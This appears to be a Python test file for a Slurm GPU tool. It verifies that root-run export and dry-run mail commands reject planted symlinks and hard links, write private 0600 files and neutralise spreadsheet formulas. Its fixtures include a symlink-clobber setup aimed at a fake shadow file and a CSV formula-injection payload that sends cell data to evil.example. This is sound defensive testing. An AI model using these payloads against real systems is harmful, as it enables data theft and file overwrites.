"""Root writes the files an administrator names (issue 27, point 4).

``slurm-gpu store export --out``, ``slurm-gpu mail --dry-run DIR`` and ``slurm-gpu police
--mail-dir DIR`` (both through ``DirMailer``) run as root. They opened the given name
following links and with the umask: a user's link in /tmp made root overwrite a root-only
file, and a fresh export of every user's jobs was 0644. Now: a new file only (``O_CREAT|
O_EXCL|O_NOFOLLOW``), mode 0600, created by descriptor inside a directory argument; exported
text a spreadsheet would run as a formula is neutralised.
"""

from __future__ import annotations

import csv
import dataclasses
import os
import stat
import sys
from email.message import EmailMessage
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from store_fixtures import make_job, make_node

from slurm_gpu.config import parse_settings
from slurm_gpu.errors import MailError, UsageError
from slurm_gpu.notify.transport import DirMailer, open_mailer
from slurm_gpu.store import TELEMETRY_COMPLETE, JobBundle, Store
from slurm_gpu.store.export import export

END = 1_700_000_100.0
SECRET = "root:$6$secret:19000:0:99999:7:::\n"


def _store(tmp_path: Path, names: tuple[str, ...] = ("train",)) -> str:
    url = f"sqlite:///{tmp_path}/store.db"
    with Store.open(url) as store:
        store.write_batch(
            [
                JobBundle(
                    job=dataclasses.replace(make_job(str(100 + i)), job_name=name, end_s=END),
                    nodes=(make_node(str(100 + i)),),
                    telemetry=TELEMETRY_COMPLETE,
                    findings=(),
                    analysis_version="a1",
                )
                for i, name in enumerate(names)
            ],
            collected_at_s=1.0,
        )
    return url


def _export(url: str, out: Path, fmt: str = "csv") -> None:
    with Store.open(url, migrate=False) as store:
        export(store.engine, str(out), since_s=0, until_s=END + 1, fmt=fmt)


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "shadow"
    victim.write_text(SECRET)
    victim.chmod(0o600)
    return victim


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_export_out_link_to_a_root_only_file_is_not_followed(tmp_path: Path, fmt: str) -> None:
    """A user leaves ``/tmp/export.csv -> /etc/shadow``; root exports there."""
    if fmt == "parquet":
        pytest.importorskip("pyarrow")
    url, victim = _store(tmp_path), _victim(tmp_path)
    out = tmp_path / f"export.{fmt}"
    out.symlink_to(victim)
    with pytest.raises(UsageError, match="already exists"):
        _export(url, out, fmt)
    assert victim.read_text() == SECRET


def test_export_out_dangling_link_creates_nothing_at_its_target(tmp_path: Path) -> None:
    """Variant: the link points where no file is yet (root would create the target)."""
    url = _store(tmp_path)
    out = tmp_path / "export.csv"
    out.symlink_to(tmp_path / "planted")
    with pytest.raises(UsageError):
        _export(url, out)
    assert not (tmp_path / "planted").exists()


def test_export_out_hard_link_to_a_root_only_file_is_not_overwritten(tmp_path: Path) -> None:
    """Variant: a hard link (same file, another name) where the export goes."""
    url, victim = _store(tmp_path), _victim(tmp_path)
    out = tmp_path / "export.csv"
    os.link(victim, out)
    with pytest.raises(UsageError, match="already exists"):
        _export(url, out)
    assert victim.read_text() == SECRET


def test_fresh_export_of_every_users_jobs_is_0600_whatever_the_umask(tmp_path: Path) -> None:
    url = _store(tmp_path)
    old = os.umask(0o022)
    try:
        _export(url, tmp_path / "export.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "export.csv").stat().st_mode) == 0o600


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_exported_job_name_that_is_a_spreadsheet_formula_is_neutralised(
    tmp_path: Path, lead: str
) -> None:
    name = lead + 'HYPERLINK("http://evil.example/?"&A1,"open")'
    url = _store(tmp_path, (name, "plain-name", "a=b"))
    out = tmp_path / "export.csv"
    _export(url, out)
    with out.open(newline="", encoding="utf-8") as fh:
        names = [row["job_name"] for row in csv.DictReader(fh)]
    stored = [n for n in names if n.endswith('"open")')]
    assert len(stored) == 1 and stored[0].startswith("'")
    assert "plain-name" in names and "a=b" in names  # other text untouched
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def _msg() -> EmailMessage:
    msg = EmailMessage()
    msg["Subject"] = "job 1"
    msg.set_content("body")
    return msg


def test_mail_dry_run_file_link_in_the_directory_is_not_followed(tmp_path: Path) -> None:
    """``mail --dry-run DIR`` / ``police --mail-dir DIR``: the next message's name is planted
    as a link to a root-only file. Root writes a new file beside it instead."""
    victim = _victim(tmp_path)
    outdir = tmp_path / "mail"
    outdir.mkdir()
    # One .eml is there, so root names the next one 0002: that is the planted link.
    (outdir / "0002-alice.eml").symlink_to(victim)
    mailer = DirMailer(str(outdir))
    mailer.send(_msg(), ["alice"])
    assert victim.read_text() == SECRET
    written = [p for p in outdir.iterdir() if not p.is_symlink()]
    assert len(written) == 1
    assert stat.S_IMODE(written[0].stat().st_mode) == 0o600
    assert b"body" in written[0].read_bytes()


def test_mail_dry_run_directory_that_is_a_link_is_refused(tmp_path: Path) -> None:
    """Variant: the directory argument itself is a link (to root's directory)."""
    target = tmp_path / "etc-cron.d"
    target.mkdir()
    (tmp_path / "mail").symlink_to(target)
    with pytest.raises(MailError):
        DirMailer(str(tmp_path / "mail")).send(_msg(), ["alice"])
    assert list(target.iterdir()) == []


def test_police_and_mail_dry_runs_write_through_the_same_private_writer(tmp_path: Path) -> None:
    """``police --mail-dir`` and ``mail --dry-run`` both get a ``DirMailer``; a missing
    directory is made 0700 and its files are 0600 whatever the umask."""
    mailer = open_mailer(parse_settings({}, path=None).mail, dry_run_dir=str(tmp_path / "new"))
    assert isinstance(mailer, DirMailer)
    old = os.umask(0)
    try:
        mailer.send(_msg(), ["bob"])
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "new").stat().st_mode) == 0o700
    (written,) = list((tmp_path / "new").iterdir())
    assert stat.S_IMODE(written.stat().st_mode) == 0o600
